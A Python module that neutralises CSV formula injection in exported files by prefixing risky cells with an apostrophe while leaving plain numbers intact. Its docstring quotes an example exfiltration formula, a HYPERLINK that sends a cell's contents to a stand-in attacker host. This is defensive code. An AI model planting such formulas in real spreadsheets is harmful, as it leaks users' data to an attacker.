"""Cells of the CSV files we hand out, safe to open in a spreadsheet (OWASP: CSV injection).

A cell whose text begins with = + - @, a tab or a carriage return is read as a formula by Excel,
LibreOffice and Google Sheets: an address such as `=HYPERLINK("https://evil.example?"&A1,"Click")` typed
into an order would run in the dispatcher's spreadsheet. Such cells get a leading apostrophe, which
spreadsheets read as "this is text". Plain numbers (`-73.58`, `+15145550100`) are left alone: they are
not formulas, and BI tools must still read them as numbers.
"""
from __future__ import annotations

import re

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:\.\d+)?(?:[eE][+-]?\d+)?")


def safe_cell(value):
    """The value to write in a CSV cell: text that a spreadsheet would run as a formula is defused."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_row(values) -> list:
    return [safe_cell(value) for value in values]
